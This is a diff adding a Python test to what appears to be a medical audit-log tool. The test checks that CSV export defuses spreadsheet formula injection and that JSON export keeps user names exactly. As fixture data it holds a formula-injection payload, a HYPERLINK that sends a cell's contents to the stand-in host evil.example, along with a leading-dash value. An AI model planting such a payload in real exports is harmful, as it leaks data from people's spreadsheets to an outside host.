@@ -120,3 +120,34 @@ def test_audit_search_and_the_daily_report(tmp_path: Path) -> None:
     assert daily["per_hour"][2] == 1 and daily["per_hour"][9] == 4
     page = runner.invoke(main.app, ["audit", "report", "--day", "2026-12-03", "--store", target]).output
     assert page.startswith("<!DOCTYPE html>") and "<svg" in page and "Break-glass uses (2)" in page
+
+
+def test_the_csv_report_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """A user name a compromised workstation wrote as a formula reaches the csv as text; the json
+    report keeps it exactly."""
+    from atna_corpus import _user
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    hostile = record("110110")
+    hostile = replace(hostile, participants=(_user(formula), *hostile.participants[1:]))
+    target = str(tmp_path / "store.db")
+    store, _ = new_store(target, tmp_path)
+    store.append([_frame(hostile), _frame(replace(record("110110"), participants=(_user("-rm"),
+                                                                                  *hostile.participants[1:])))])
+    store.checkpoint()
+    store.close()
+    runner = CliRunner()
+    as_csv = runner.invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--format", "csv"])
+    assert as_csv.exit_code == 0, as_csv.output
+    cells = [c for line in csv_rows(as_csv.stdout) for c in line]
+    assert "'" + formula in cells and "'-rm" in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    as_json = runner.invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--format", "json"])
+    assert formula in {e["user"] for e in json.loads(as_json.stdout)["events"]}
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text)))
